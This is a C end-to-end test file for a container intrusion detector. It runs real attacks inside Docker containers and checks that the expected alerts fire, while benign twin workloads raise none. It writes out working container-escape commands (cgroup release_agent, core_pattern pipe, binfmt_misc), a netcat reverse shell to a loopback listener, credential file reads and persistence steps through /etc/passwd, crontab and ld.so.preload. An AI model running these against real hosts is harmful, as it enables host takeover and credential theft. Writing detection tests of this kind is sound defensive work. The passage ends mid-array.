// SPDX-License-Identifier: Apache-2.0
/*
 * E2E detection: `bulwark run` with the embedded default rules, a real Docker
 * engine, real attacks inside containers, and the exact alerts they must
 * raise (rule name, container id and image); the benign twins must raise
 * none. Every attack cleans up: named cgroup hierarchies are removed,
 * core_pattern is restored, listeners are on 127.0.0.1 and stopped.
 *
 * Usage: attacks PATH/TO/bulwark   (root)
 */
#include <arpa/inet.h>
#include <limits.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "check.h"
#include "tracer.h"

#define TIMEOUT_MS 15000
#define IMAGE "localhost/bulwark-busybox:test" /* made by tests/e2e/docker-env.sh */
#define IMAGE_REPO "localhost/bulwark-busybox"

static char workdir[] = "/tmp/bulwark-attacks.XXXXXX";
static char errfile[PATH_MAX];

/* Falco's container.id is the short (12-hex) id. */
static bool from_container(json_t *alert, const void *full_id)
{
	const char *id = alert_field(alert, "container.id");

	return id && strncmp(id, full_id, 12) == 0 && strlen(id) == 12;
}

/* An alert whose output field equals a value. */
struct field_is {
	const char *field, *value;
};

static bool alert_field_is(json_t *alert, const void *arg)
{
	const struct field_is *f = arg;
	const char *v = alert_field(alert, f->field);

	return v && strcmp(v, f->value) == 0;
}

static bool from_layer_container(json_t *alert, const char *full_id)
{
	const char *id = alert_field(alert, "bulwark.exec.layer_container.id");

	return id && strncmp(id, full_id, 12) == 0 && strlen(id) == 12;
}

static void check_alert(const char *rule, const char *full_id, const char *priority)
{
	json_t *a = tracer_find_alert(rule, from_container, full_id, TIMEOUT_MS);

	CHECK(a, "no alert \"%s\" for container %.12s", rule, full_id);
	if (!a)
		return;
	CHECK(jstr(a, "priority") && strcmp(jstr(a, "priority"), priority) == 0, "priority %s, want %s: %s",
	      jstr(a, "priority"), priority, jstr(a, "output"));
	CHECK_STR(alert_field(a, "container.image.repository"), IMAGE_REPO);
	CHECK(jstr(a, "uuid") && strlen(jstr(a, "uuid")) == 36, "uuid");
	CHECK(jstr(a, "output") && jstr(a, "output")[0], "output text");
}

static int start_container(char *id, size_t size, const char *name, const char *flags)
{
	sh(NULL, 0, "docker rm -f %s >/dev/null 2>&1", name);
	return sh(id, size, "docker run -d --name %s %s %s sleep 300", name, flags, IMAGE);
}

#define BREAKOUT_FLAGS "--cap-add SYS_ADMIN --security-opt seccomp=unconfined --security-opt apparmor=unconfined"

/* The seed attack, as in the recipe, on a new named hierarchy that is removed afterwards. */
static void test_release_agent_breakout(void)
{
	char id[80], upper[PATH_MAX], out[256];
	long deadline;

	CHECK(start_container(id, sizeof(id), "bw-atk-breakout", BREAKOUT_FLAGS) == 0, "docker run");
	CHECK(sh(NULL, 0,
		 "docker exec bw-atk-breakout sh -c '"
		 "mkdir -p /tmp/cgrp && mount -t cgroup -o none,name=bwatk%d cgroup /tmp/cgrp && mkdir -p /tmp/cgrp/x;"
		 "echo 1 > /tmp/cgrp/x/notify_on_release;"
		 "host_path=$(sed -n \"s/.*\\perdir=\\([^,]*\\).*/\\1/p\" /proc/mounts);"
		 "echo \"$host_path/cmd\" > /tmp/cgrp/release_agent;"
		 "printf \"#!/bin/sh\\nps > %%s/output\\n\" \"$host_path\" > /cmd; chmod a+x /cmd;"
		 "sh -c \"echo \\$\\$ > /tmp/cgrp/x/cgroup.procs\"'",
		 getpid()) == 0,
	      "the breakout script failed");
	/*
	 * The host writes the output into the container's upper directory behind
	 * overlayfs's back: looking for it from inside would cache a negative
	 * dentry. Watch the upper directory itself.
	 */
	sh(upper, sizeof(upper), "docker inspect -f '{{.GraphDriver.Data.UpperDir}}' bw-atk-breakout");
	deadline = now_ms() + TIMEOUT_MS;
	do
		sh(out, sizeof(out), "head -1 '%s/output' 2>/dev/null", upper);
	while (!strstr(out, "PID") && now_ms() < deadline && (usleep(100000), 1));
	CHECK(strstr(out, "PID") != NULL, "the host did not run the release agent (got \"%s\")", out);
	sh(NULL, 0, "docker exec bw-atk-breakout sh -c 'rmdir /tmp/cgrp/x; umount /tmp/cgrp'");
	check_alert("Container Escape via cgroup release_agent", id, "Critical");
	check_alert("cgroup notify_on_release Enabled in Container", id, "Critical");
	check_alert("Mount in Container", id, "Critical");
	/*
	 * The exec is the host's (no container): the alert names the container whose layer held
	 * the file. Other host execs from overlay paths (image builds) may raise the same rule
	 * in this run: the alert looked for is the one for this container's /cmd.
	 */
	{
		char cmd[PATH_MAX + 8];
		json_t *a;

		snprintf(cmd, sizeof(cmd), "%s/cmd", upper);
		a = tracer_find_alert("Host Executed File From Container Layer", alert_field_is,
				      &(struct field_is){ "bulwark.exec.filename", cmd }, TIMEOUT_MS);
		CHECK(a, "no alert for the host executing %s (%d alerts of the rule)", cmd,
		      tracer_count_alerts("Host Executed File From Container Layer", NULL, NULL));
		if (a) {
			CHECK_STR(alert_field(a, "container.id"), "host");
			CHECK(from_layer_container(a, id), "layer container %s, want %.12s",
			      alert_field(a, "bulwark.exec.layer_container.id"), id);
			CHECK_STR(alert_field(a, "bulwark.exec.layer_container.name"), "bw-atk-breakout");
			CHECK_STR(jstr(a, "priority"), "Critical");
		}
	}
	sh(NULL, 0, "docker rm -f bw-atk-breakout >/dev/null 2>&1");
}

static void test_drop_and_execute(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-atk-drop", "") == 0, "docker run");
	/* busybox picks its applet by name: the dropped copy is called "true" */
	CHECK(sh(NULL, 0, "docker exec bw-atk-drop sh -c 'cp /bin/busybox /tmp/true && /tmp/true'") == 0,
	      "drop and execute");
	check_alert("Drop and Execute New Binary in Container", id, "Critical");
	sh(NULL, 0, "docker rm -f bw-atk-drop >/dev/null 2>&1");
}

/* A listener on 127.0.0.1 (an ephemeral port) for containers on the host's network. */
static int listen_loopback(int *port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof(a);
	int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (l < 0 || bind(l, (void *)&a, sizeof(a)) || listen(l, 4) || getsockname(l, (void *)&a, &len)) {
		if (l >= 0)
			close(l);
		return -1;
	}
	*port = ntohs(a.sin_port);
	return l;
}

/* Accepts one connection, sends @say, reads until EOF into out (the peer's output); 0 or -1. */
static int serve_once(int l, const char *say, char *out, size_t size)
{
	struct pollfd p = { .fd = l, .events = POLLIN };
	size_t n = 0;
	ssize_t r;
	int c;

	out[0] = '\0';
	if (poll(&p, 1, TIMEOUT_MS) != 1 || (c = accept(l, NULL, NULL)) < 0)
		return -1;
	if (say && write(c, say, strlen(say)) < 0)
		n = 0;
	p.fd = c;
	while (n + 1 < size && poll(&p, 1, 5000) == 1 && (r = read(c, out + n, size - n - 1)) > 0)
		n += r;
	out[n] = '\0';
	close(c);
	return 0;
}

/* busybox nc -e /bin/sh: the shell's stdin and stdout are the TCP connection to the attacker. */
static void test_reverse_shell_stdio(void)
{
	char id[80], out[256];
	int port, l = listen_loopback(&port);

	CHECK(l >= 0, "listener on 127.0.0.1");
	if (l < 0)
		return;
	CHECK(start_container(id, sizeof(id), "bw-atk-revshell", "--network host") == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec -d bw-atk-revshell nc 127.0.0.1 %d -e /bin/sh", port) == 0, "docker exec nc");
	CHECK(serve_once(l, "echo pwned-$((6*7)); exit\n", out, sizeof(out)) == 0, "no connection from nc -e");
	CHECK(strstr(out, "pwned-42") != NULL, "the shell did not answer (got \"%s\")", out);
	check_alert("Reverse Shell with Network Socket as stdin/stdout in Container", id, "Critical");
	{
		json_t *a = tracer_find_alert("Reverse Shell with Network Socket as stdin/stdout in Container", from_container,
					      id, TIMEOUT_MS);
		char peer[32];

		snprintf(peer, sizeof(peer), "127.0.0.1:%d", port);
		if (a) {
			CHECK_STR(alert_field(a, "bulwark.stdin.peer"), peer);
			CHECK_STR(alert_field(a, "bulwark.stdout.type"), "socket");
			/* busybox nc -e execs the shell in its own process: its parent is the runtime's shim, not nc */
			CHECK_STR(alert_field(a, "proc.name"), "sh");
		}
	}
	close(l);
	sh(NULL, 0, "docker rm -f bw-atk-revshell >/dev/null 2>&1");
}

/* A script written into the writable layer and run by its #! (the interpreter is the image's). */
static void test_drop_and_execute_script(void)
{
	char id[80], out[64];

	CHECK(start_container(id, sizeof(id), "bw-atk-script", "") == 0, "docker run");
	CHECK(sh(out, sizeof(out),
		 "docker exec bw-atk-script sh -c 'printf \"#!/bin/sh\\necho dropped\\n\" > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh'") == 0 &&
	      strstr(out, "dropped"),
	      "the script did not run (got \"%s\")", out);
	check_alert("Drop and Execute New Script in Container", id, "Critical");
	sh(NULL, 0, "docker rm -f bw-atk-script >/dev/null 2>&1");
}

/* A payload copied to /dev/shm (Docker mounts it noexec) and run: the exec fails with EACCES. */
static void test_exec_from_dev_shm(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-atk-shm", "") == 0, "docker run");
	/* the exec is refused: the shell's status is 126, not checked */
	sh(NULL, 0, "docker exec bw-atk-shm sh -c 'cp /bin/busybox /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker true' 2>/dev/null");
	check_alert("Execution Attempt from Non-Executable Location in Container", id, "Warning");
	{
		json_t *a = tracer_find_alert("Execution Attempt from Non-Executable Location in Container", from_container,
					      id, TIMEOUT_MS);

		if (a)
			CHECK_STR(alert_field(a, "bulwark.exec_failed.path"), "/dev/shm/kworker");
	}
	sh(NULL, 0, "docker rm -f bw-atk-shm >/dev/null 2>&1");
}

/*
 * The twins of the three above: nc piping data (not a shell) and a shell fed by a pipe; a
 * script run as its interpreter's argument, and the image's own script (in a lower layer of
 * an image committed from a container); a command not found ($PATH search, ENOENT).
 */
static void test_benign_twins_stdio_script_exec(void)
{
	char id[80], id2[80], out[256];
	int port, l = listen_loopback(&port);

	CHECK(l >= 0, "listener on 127.0.0.1");
	if (l < 0)
		return;
	CHECK(start_container(id, sizeof(id), "bw-benign-twins", "--network host") == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec -d bw-benign-twins sh -c 'echo hello | nc 127.0.0.1 %d'", port) == 0, "nc");
	CHECK(serve_once(l, NULL, out, sizeof(out)) == 0 && strstr(out, "hello"), "nc sent \"%s\"", out);
	CHECK(sh(NULL, 0,
		 "docker exec bw-benign-twins sh -c 'echo id | sh >/dev/null;"
		 "printf \"#!/bin/sh\\necho app\\n\" > /tmp/app.sh; sh /tmp/app.sh; nosuchcommand 2>/dev/null; true'") == 0,
	      "benign work");
	/* an image whose own script is in a lower layer */
	CHECK(sh(NULL, 0,
		 "docker exec bw-benign-twins sh -c 'mkdir -p /opt && printf \"#!/bin/sh\\necho app\\n\" > /opt/app.sh && chmod +x /opt/app.sh'"
		 " && docker commit bw-benign-twins localhost/bulwark-busybox:twins >/dev/null") == 0,
	      "docker commit");
	sh(NULL, 0, "docker rm -f bw-benign-image >/dev/null 2>&1");
	CHECK(sh(id2, sizeof(id2), "docker run -d --name bw-benign-image localhost/bulwark-busybox:twins sleep 300") == 0,
	      "docker run of the committed image");
	CHECK(sh(out, sizeof(out), "docker exec bw-benign-image /opt/app.sh") == 0 && strstr(out, "app"), "image script");
	tracer_drain(3000);
	CHECK_INT(tracer_count_alerts("Drop and Execute New Script in Container", from_container, id2), 0);
	CHECK_INT(tracer_count_alerts(NULL, from_container, id2), 0);
	/* the container wrote /opt/app.sh and /tmp/app.sh itself, but never exec'd them as scripts */
	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
	close(l);
	sh(NULL, 0, "docker rm -f bw-benign-twins bw-benign-image >/dev/null 2>&1; docker rmi localhost/bulwark-busybox:twins >/dev/null 2>&1");
}

/* Reading /etc/shadow: read-only opens reach the rules only for the prefixes they name. */
static void test_sensitive_file_read(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-atk-read", "") == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-atk-read sh -c 'echo \"root:*:19000:0:99999:7:::\" > /etc/shadow'") == 0, "setup");
	CHECK(sh(NULL, 0, "docker exec bw-atk-read cat /etc/shadow >/dev/null") == 0, "read");
	check_alert("Sensitive File Read in Container", id, "Warning");
	/* by a name that is not the watched one: decided on the file opened (a relative path, `..`) */
	CHECK(sh(NULL, 0, "docker exec bw-atk-read sh -c 'cd /etc && cat shadow && cat ../etc/./shadow' >/dev/null") == 0,
	      "read by relative names");
	tracer_drain(2000);
	CHECK_INT(tracer_count_alerts("Sensitive File Read in Container", from_container, id), 3);
	sh(NULL, 0, "docker rm -f bw-atk-read >/dev/null 2>&1");
}

/*
 * Class 6: a credential read by another name. A hard link made to /etc/shadow from /tmp by a
 * relative name, then read by the link's name: the link is an alert of its own, and the read
 * is a read of /etc/shadow (the kernel reports the inode's watched name). A relative symlink,
 * and the pod's service-account token read by cat from a mounted secret volume.
 */
static void test_sensitive_file_by_any_name(void)
{
	char id[80], secrets[PATH_MAX], flags[PATH_MAX + 96];
	json_t *a;

	snprintf(secrets, sizeof(secrets), "%s/serviceaccount", workdir);
	CHECK(sh(NULL, 0, "mkdir -p %s && echo eyJhbGciOi-token > %s/token", secrets, secrets) == 0, "secret volume");
	snprintf(flags, sizeof(flags), "-v %s:/var/run/secrets/kubernetes.io/serviceaccount:ro", secrets);
	CHECK(start_container(id, sizeof(id), "bw-brd-anyname", flags) == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-brd-anyname sh -c 'echo \"root:*:19000:0:99999:7:::\" > /etc/shadow'") == 0, "setup");
	CHECK(sh(NULL, 0, "docker exec bw-brd-anyname sh -c 'cd /tmp && ln ../etc/./shadow hl && cat hl && ln -s ../etc/shadow sl' >/dev/null") == 0,
	      "hard link, read, symlink");
	a = tracer_find_alert("Link to Sensitive File", alert_field_is, &(struct field_is){ "evt.type", "link" }, TIMEOUT_MS);
	CHECK(a, "no alert for the hard link");
	if (a) {
		CHECK(from_container(a, id), "container %s", alert_field(a, "container.id"));
		CHECK_STR(alert_field(a, "fs.path.source"), "/etc/shadow");
		CHECK_STR(alert_field(a, "fs.path.sourceraw"), "../etc/./shadow");
		CHECK_STR(alert_field(a, "fs.path.target"), "/tmp/hl");
		CHECK_STR(jstr(a, "priority"), "Warning");
	}
	a = tracer_find_alert("Link to Sensitive File", alert_field_is, &(struct field_is){ "evt.type", "symlink" }, TIMEOUT_MS);
	CHECK(a, "no alert for the symlink");
	if (a) {
		CHECK(from_container(a, id), "container %s", alert_field(a, "container.id"));
		CHECK_STR(alert_field(a, "fs.path.source"), "/etc/shadow");
		CHECK_STR(alert_field(a, "fs.path.target"), "/tmp/sl");
	}
	a = tracer_find_alert("Sensitive File Read in Container", alert_field_is,
			      &(struct field_is){ "bulwark.file.upath", "hl" }, TIMEOUT_MS);
	CHECK(a, "no alert for the read through the hard link");
	if (a) {
		CHECK(from_container(a, id), "container %s", alert_field(a, "container.id"));
		CHECK_STR(alert_field(a, "fd.name"), "/etc/shadow");
		CHECK_STR(alert_field(a, "proc.name"), "cat");
		CHECK(json_is_true(json_object_get(json_object_get(a, "output_fields"), "bulwark.file.alias")),
		      "bulwark.file.alias");
	}
	CHECK(sh(NULL, 0, "docker exec bw-brd-anyname cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null") == 0,
	      "token read");
	a = tracer_find_alert("Sensitive File Read in Container", alert_field_is,
			      &(struct field_is){ "fd.name", "/var/run/secrets/kubernetes.io/serviceaccount/token" }, TIMEOUT_MS);
	CHECK(a, "no alert for the token read by cat");
	if (a)
		CHECK(from_container(a, id), "container %s", alert_field(a, "container.id"));
	tracer_drain(1000);
	/* exactly these: two links and two reads */
	CHECK_INT(tracer_count_alerts("Link to Sensitive File", from_container, id), 2);
	CHECK_INT(tracer_count_alerts("Sensitive File Read in Container", from_container, id), 2);
	sh(NULL, 0, "docker rm -f bw-brd-anyname >/dev/null 2>&1");
}

/*
 * Its benign twin: the same tools on the app's own files: a hard link and a relative symlink
 * named shadow in the app's directory, /etc/hostname read through ../, and the token read by a
 * program that is neither a shell nor a file utility (a client; here busybox's md5sum).
 */
static void test_benign_links_and_token_client(void)
{
	char id[80], secrets[PATH_MAX], flags[PATH_MAX + 96];

	snprintf(secrets, sizeof(secrets), "%s/serviceaccount2", workdir);
	CHECK(sh(NULL, 0, "mkdir -p %s && echo eyJhbGciOi-token > %s/token", secrets, secrets) == 0, "secret volume");
	snprintf(flags, sizeof(flags), "-v %s:/var/run/secrets/kubernetes.io/serviceaccount:ro", secrets);
	CHECK(start_container(id, sizeof(id), "bw-brd-links-benign", flags) == 0, "docker run");
	CHECK(sh(NULL, 0,
		 "docker exec bw-brd-links-benign sh -c 'mkdir -p /app && cd /app && echo data > state && ln state state.bak"
		 " && ln -s state shadow && cat shadow state.bak && cat ../etc/../etc/hostname"
		 " && ln -s /bin/busybox /app/md5sum && /app/md5sum /var/run/secrets/kubernetes.io/serviceaccount/token' >/dev/null") == 0,
	      "benign work");
	tracer_drain(3000);
	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
	sh(NULL, 0, "docker rm -f bw-brd-links-benign >/dev/null 2>&1");
}

/*
 * Class 8: persistence written from a container: an account appended to /etc/passwd, root's
 * crontab installed, a preload list renamed over /etc/ld.so.preload from /etc by a relative
 * name, and busybox copied to /tmp/kworker, never run.
 */
static void test_persistence_written(void)
{
	char id[80];
	json_t *a;

	CHECK(start_container(id, sizeof(id), "bw-brd-persist", "") == 0, "docker run");
	CHECK(sh(NULL, 0,
		 "docker exec bw-brd-persist sh -c 'echo \"root:x:0:0::/root:/bin/sh\" >> /etc/passwd"
		 " && mkdir -p /var/spool/cron/crontabs && echo \"* * * * * /tmp/kworker\" | busybox crontab -"
		 " && echo /tmp/evil.so > /tmp/p && cd /etc && busybox mv /tmp/p ld.so.preload"
		 " && cp /bin/busybox /tmp/kworker'") == 0,
	      "persistence steps");
	/* busybox crontab writes root.new (and cron.update), then renames root.new over root */
	a = tracer_find_alert("Persistence File Written in Container", alert_field_is,
			      &(struct field_is){ "fs.path.target", "/var/spool/cron/crontabs/root" }, TIMEOUT_MS);
	CHECK(a && from_container(a, id), "no alert for the crontab");
	if (a) {
		CHECK_STR(jstr(a, "priority"), "Error");
		CHECK_STR(alert_field(a, "fs.path.source"), "/var/spool/cron/crontabs/root.new");
	}
	a = tracer_find_alert("Persistence File Written in Container", alert_field_is,
			      &(struct field_is){ "fs.path.target", "/etc/ld.so.preload" }, TIMEOUT_MS);
	CHECK(a && from_container(a, id), "no alert for the rename over /etc/ld.so.preload");
	if (a) {
		CHECK_STR(alert_field(a, "evt.type"), "rename");
		CHECK_STR(alert_field(a, "fs.path.source"), "/tmp/p");
	}
	a = tracer_find_alert("Persistence File Written in Container", alert_field_is,
			      &(struct field_is){ "fd.name", "/etc/passwd" }, TIMEOUT_MS);
	CHECK(a && from_container(a, id), "no alert for /etc/passwd");
	a = tracer_find_alert("Executable Written into Container Layer", from_container, id, TIMEOUT_MS);
	CHECK(a, "no alert for the executable written");
	if (a) {
		CHECK_STR(alert_field(a, "fd.name"), "/tmp/kworker");
		CHECK_STR(alert_field(a, "proc.name"), "cp");
		CHECK_STR(jstr(a, "priority"), "Notice");
	}
	tracer_drain(1000);
	/* /etc/passwd, crontab's root.new, cron.update and rename, the preload rename */
	CHECK_INT(tracer_count_alerts("Persistence File Written in Container", from_container, id), 5);
	CHECK_INT(tracer_count_alerts("Executable Written into Container Layer", from_container, id), 1);
	sh(NULL, 0, "docker rm -f bw-brd-persist >/dev/null 2>&1");
}

/*
 * Its benign twin: `crontab -l`, /etc/passwd read, an app writing, renaming and linking its
 * own data files, a shell script written without an execute bit.
 */
static void test_benign_persistence_twin(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-brd-persist-benign", "") == 0, "docker run");
	sh(NULL, 0, "docker exec bw-brd-persist-benign busybox crontab -l >/dev/null 2>&1");
	CHECK(sh(NULL, 0,
		 "docker exec bw-brd-persist-benign sh -c 'cat /etc/passwd 2>/dev/null; mkdir -p /app && cd /app"
		 " && echo data > state.tmp && busybox mv state.tmp state && ln state state.1 && echo echo hi > run.sh' >/dev/null") == 0,
	      "benign work");
	tracer_drain(3000);
	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
	sh(NULL, 0, "docker rm -f bw-brd-persist-benign >/dev/null 2>&1");
}

/* The alert of the host running @file, checked for the container whose layer held it. */
static void check_host_exec_alert(const char *field, const char *file, const char *id, const char *name, bool umh)
{
	json_t *a = tracer_find_alert("Host Executed File From Container Layer", alert_field_is,
				      &(struct field_is){ field, file }, TIMEOUT_MS);

	CHECK(a, "no alert for the host executing %s (%d alerts of the rule)", file,
	      tracer_count_alerts("Host Executed File From Container Layer", NULL, NULL));
	if (!a)
		return;
	CHECK_STR(alert_field(a, "container.id"), "host");
	CHECK(from_layer_container(a, id), "layer container %s, want %.12s", alert_field(a, "bulwark.exec.layer_container.id"), id);
	CHECK_STR(alert_field(a, "bulwark.exec.layer_container.name"), name);
	CHECK(json_is_boolean(json_object_get(json_object_get(a, "output_fields"), "bulwark.exec.umh")) &&
	      json_is_true(json_object_get(json_object_get(a, "output_fields"), "bulwark.exec.umh")) == umh,
	      "bulwark.exec.umh, want %d", umh);
	CHECK_STR(jstr(a, "priority"), "Critical");
}

static char saved_core_pattern[PATH_MAX]; /* the host's core_pattern, kept in a file while a test changes it */

static void restore_core_pattern(void)
{
	if (saved_core_pattern[0] && access(saved_core_pattern, F_OK) == 0)
		sh(NULL, 0, "cat '%s' > /proc/sys/kernel/core_pattern && rm -f '%s'", saved_core_pattern, saved_core_pattern);
}

/*
 * Class 11: the host running a container's file through a kernel callback. A container with
 * CAP_SYS_ADMIN and /proc/sys writable points core_pattern at a pipe into its own layer and
 * crashes a process: the kernel's usermode helper runs the file on the host as root.
 * core_pattern is restored at once (and by cleanup).
 */
static void test_core_pattern_pipe_breakout(void)
{
	char id[80], upper[PATH_MAX], out[256], file[PATH_MAX + 8];
	long deadline;

	snprintf(saved_core_pattern, sizeof(saved_core_pattern), "%s/core_pattern.saved", workdir);
	CHECK(sh(NULL, 0, "cat /proc/sys/kernel/core_pattern > '%s'", saved_core_pattern) == 0, "save core_pattern");
	CHECK(start_container(id, sizeof(id), "bw-brd-corepat", BREAKOUT_FLAGS " --security-opt systempaths=unconfined") == 0,
	      "docker run");
	sh(upper, sizeof(upper), "docker inspect -f '{{.GraphDriver.Data.UpperDir}}' bw-brd-corepat");
	sh(NULL, 0,
	   "docker exec bw-brd-corepat sh -c '"
	   "host_path=$(sed -n \"s/.*\\perdir=\\([^,]*\\).*/\\1/p\" /proc/mounts);"
	   "printf \"#!/bin/sh\\necho dumped > %%s/out\\n\" \"$host_path\" > /cp; chmod a+x /cp;"
	   "echo \"|$host_path/cp %%p\" > /proc/sys/kernel/core_pattern;"
	   "sh -c \"kill -SEGV \\$\\$\"' 2>/dev/null");
	deadline = now_ms() + TIMEOUT_MS;
	do
		sh(out, sizeof(out), "cat '%s/out' 2>/dev/null", upper);
	while (!strstr(out, "dumped") && now_ms() < deadline && (usleep(100000), 1));
	restore_core_pattern();
	CHECK(strstr(out, "dumped") != NULL, "the kernel did not run the core_pattern pipe (got \"%s\")", out);
	check_alert("Kernel core_pattern Modified", id, "Critical");
	snprintf(file, sizeof(file), "%s/cp", upper);
	check_host_exec_alert("bulwark.exec.filename", file, id, "bw-brd-corepat", true);
	sh(NULL, 0, "docker rm -f bw-brd-corepat >/dev/null 2>&1");
}

/*
 * binfmt_misc: a container registers a handler (in the host's instance: same user namespace)
 * whose interpreter is a file in its layer; a host process then runs a file of that format and
 * the kernel runs the container's interpreter for it, in the host process (no usermode helper).
 */
static void test_binfmt_misc_handler_breakout(void)
{
	char id[80], upper[PATH_MAX], interp[PATH_MAX + 16], name[32], prog[PATH_MAX];

	snprintf(name, sizeof(name), "bwbrd%d", getpid());
	CHECK(start_container(id, sizeof(id), "bw-brd-binfmt", BREAKOUT_FLAGS) == 0, "docker run");
	sh(upper, sizeof(upper), "docker inspect -f '{{.GraphDriver.Data.UpperDir}}' bw-brd-binfmt");
	CHECK(sh(NULL, 0,
		 "docker exec bw-brd-binfmt sh -c '"
		 "host_path=$(sed -n \"s/.*\\perdir=\\([^,]*\\).*/\\1/p\" /proc/mounts);"
		 "cp /bin/busybox /interp && mkdir -p /tmp/bfm && mount -t binfmt_misc none /tmp/bfm &&"
		 "echo \":%s:M::BWBRDX::$host_path/interp:\" > /tmp/bfm/register'", name) == 0,
	      "register the handler");
	snprintf(prog, sizeof(prog), "%s/report.bwx", workdir);
	CHECK(sh(NULL, 0, "printf 'BWBRDX\\n' > '%s' && chmod +x '%s'", prog, prog) == 0, "the host's file");
	sh(NULL, 0, "'%s' >/dev/null 2>&1", prog); /* busybox as \"interp\": no such applet, but it ran */
	/* unregister from the host (the container's mount is gone with it) */
	sh(NULL, 0, "d=$(mktemp -d) && mount -t binfmt_misc none $d && echo -1 > $d/%s; umount $d; rmdir $d", name);
	snprintf(interp, sizeof(interp), "%s/interp", upper);
	check_host_exec_alert("proc.exepath", interp, id, "bw-brd-binfmt", false);
	sh(NULL, 0, "docker rm -f bw-brd-binfmt >/dev/null 2>&1");
}

/* The twin: a container reads core_pattern and a process in it crashes under the host's own pattern. */
static void test_benign_core_pattern_reader(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-brd-corepat-benign", "") == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-brd-corepat-benign cat /proc/sys/kernel/core_pattern >/dev/null") == 0, "read");
	sh(NULL, 0, "docker exec bw-brd-corepat-benign sh -c 'cd /tmp && sh -c \"kill -SEGV \\$\\$\"' 2>/dev/null");
	tracer_drain(3000);
	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
	sh(NULL, 0, "docker rm -f bw-brd-corepat-benign >/dev/null 2>&1");
}

/*
 * Class 4: the host's mount and network namespaces joined from a container that shares the
 * host's PID namespace (nsenter -t <a host process>), on this host whose PID 1 namespaces the
 * agent cannot read (/proc/1/ns links are unreadable here): decided in the kernel against
 * init_task's namespaces.
 */
static void test_setns_into_host_namespaces(void)
{
	char id[80];
	json_t *a;

	/* CAP_SYS_PTRACE: opening another process's /proc/<pid>/ns links */
	CHECK(start_container(id, sizeof(id), "bw-brd-nsenter", BREAKOUT_FLAGS " --cap-add SYS_PTRACE --pid host") == 0,
	      "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-brd-nsenter busybox nsenter -t %d -m -n true", getpid()) == 0, "nsenter");
	a = tracer_find_alert("Namespace Change to Host via setns", alert_field_is,
			      &(struct field_is){ "bulwark.ns.type", "mnt" }, TIMEOUT_MS);
	CHECK(a && from_container(a, id), "no alert for the host's mount namespace");
	if (a)
		CHECK_STR(jstr(a, "priority"), "Critical");
	a = tracer_find_alert("Namespace Change to Host via setns", alert_field_is,
			      &(struct field_is){ "bulwark.ns.type", "net" }, TIMEOUT_MS);
	CHECK(a && from_container(a, id), "no alert for the host's network namespace");
	tracer_drain(1000);
	CHECK_INT(tracer_count_alerts("Namespace Change to Host via setns", from_container, id), 2);
	sh(NULL, 0, "docker rm -f bw-brd-nsenter >/dev/null 2>&1");
}

/*
 * The twin: the same container's shell enters its own namespaces (nsenter -t $$): no setns
 * alert; the one alert is the posture rule's for the container's settings.
 */
static void test_benign_setns_own_namespaces(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-brd-nsenter-benign", BREAKOUT_FLAGS " --cap-add SYS_PTRACE --pid host") == 0,
	      "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-brd-nsenter-benign sh -c 'busybox nsenter -t $$ -m -n true'") == 0, "nsenter");
	tracer_drain(3000);
	CHECK_INT(tracer_count_alerts("Namespace Change to Host via setns", from_container, id), 0);
	CHECK_INT(tracer_count_alerts("Risky Container Started", from_container, id), 1);
	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 1);
	sh(NULL, 0, "docker rm -f bw-brd-nsenter-benign >/dev/null 2>&1");
}

/* Benign twins: a container doing ordinary work raises nothing. */
static void test_benign_workload_is_silent(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-benign", "--read-only --tmpfs /tmp:rw,uid=1000 --user 1000 --cap-drop ALL") == 0,
	      "docker run");
	CHECK(sh(NULL, 0,
		 "docker exec bw-benign sh -c 'set -e; for i in 1 2 3 4 5; do echo data $i > /tmp/f$i; cat /tmp/f$i; done;"
		 "ls -l /tmp; ps; id' >/dev/null") == 0,
	      "benign work");
	/* long enough for anything the work could raise to arrive */
	tracer_drain(3000);
	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
	sh(NULL, 0, "docker rm -f bw-benign >/dev/null 2>&1");
}

/* tests/e2e/inject.c, built static once and bind-mounted into the containers that use it */
static char inject_bin[PATH_MAX];

static bool build_inject(void)
{
	if (!inject_bin[0]) {
		snprintf(inject_bin, sizeof(inject_bin), "%s/inject", workdir);
		if (sh(NULL, 0, "cc -static -O2 -o %s tests/e2e/inject.c", inject_bin) != 0)
			inject_bin[0] = '\0';
	}
	return inject_bin[0] != '\0';
}

/*
 * Ordinary work raises nothing (issue 13's false-positive check): ten containers started
 * with ordinary commands; a web server under load (1,000 requests from a client
 * container); a package-manager-like install (unpack to temporary names, rename into
 * place, chmod +x, a config file, run the installed program); a build-like burst of
 * short-lived processes writing objects and a program.
 */
static void test_ordinary_workloads_are_silent(void)
{
	static const char *const cmds[] = {
		"sleep 30", "sh -c 'while :; do date > /tmp/now; sleep 1; done'", "sh -c 'ls -l / >/dev/null; sleep 30'",
